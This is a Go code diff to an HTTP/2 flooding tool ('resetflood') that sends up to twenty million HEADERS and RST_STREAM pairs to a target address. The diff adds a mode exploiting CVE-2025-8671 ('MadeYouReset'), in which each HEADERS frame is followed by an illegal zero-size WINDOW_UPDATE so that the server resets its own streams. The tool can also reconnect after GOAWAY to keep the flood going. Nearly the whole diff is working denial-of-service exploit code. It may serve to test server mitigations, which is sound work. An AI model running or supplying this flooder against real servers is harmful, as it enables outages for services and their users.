@@ -36,6 +36,7 @@ func main() {
 	duration := flag.Duration("duration", 10*time.Second, "how long to flood")
 	maxPairs := flag.Int("max-pairs", 20_000_000, "at most this many HEADERS+RST_STREAM pairs in all")
 	path := flag.String("path", "/", "the request path of the HEADERS frames")
+	madeYouReset := flag.Bool("made-you-reset", false, "follow each HEADERS with a WINDOW_UPDATE of 0 on its stream, which the server answers with RST_STREAM (CVE-2025-8671), instead of an RST_STREAM")
 	reconnect := flag.Bool("reconnect", false, "open a new connection as soon as the server sends GOAWAY or closes one, until -duration")
 	flag.Parse()
 
@@ -50,7 +51,7 @@ func main() {
 	var total int
 	var conns []result
 	for total < *maxPairs && time.Now().Before(deadline) {
-		r, err := flood(*addr, *path, deadline, *maxPairs-total, !*reconnect)
+		r, err := flood(*addr, *path, *madeYouReset, deadline, *maxPairs-total, !*reconnect)
 		if err != nil {
 			fmt.Fprintln(os.Stderr, "resetflood:", err)
 			os.Exit(1)
@@ -137,7 +138,7 @@ const batchPairs = 100
 // connection's end; then, if waitClose, it waits up to two seconds for the
 // server to close the connection, else it closes it at once, as a flooder
 // that comes back would.
-func flood(addr, path string, deadline time.Time, maxPairs int, waitClose bool) (result, error) {
+func flood(addr, path string, madeYouReset bool, deadline time.Time, maxPairs int, waitClose bool) (result, error) {
 	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
 	if err != nil {
 		return result{}, err
@@ -181,6 +182,7 @@ func flood(addr, path string, deadline time.Time, maxPairs int, waitClose bool) 
 	)
 	enc := hpack.NewEncoder(&block)
 	fr := http2.NewFramer(&buf, nil)
+	fr.AllowIllegalWrites = true // a WINDOW_UPDATE of 0
 	start := time.Now()
 	id := uint32(1)
 	c.SetWriteDeadline(deadline)
@@ -193,8 +195,14 @@ flood:
 			for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", addr}, {":path", path}} {
 				enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
 			}
-			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
-			fr.WriteRSTStream(id, http2.ErrCodeCancel)
+			if madeYouReset {
+				// The stream stays open for the server to reset it.
+				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
+				fr.WriteWindowUpdate(id, 0)
+			} else {
+				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
+				fr.WriteRSTStream(id, http2.ErrCodeCancel)
+			}
 			id += 2
 		}
 		_, err := c.Write(buf.Bytes())
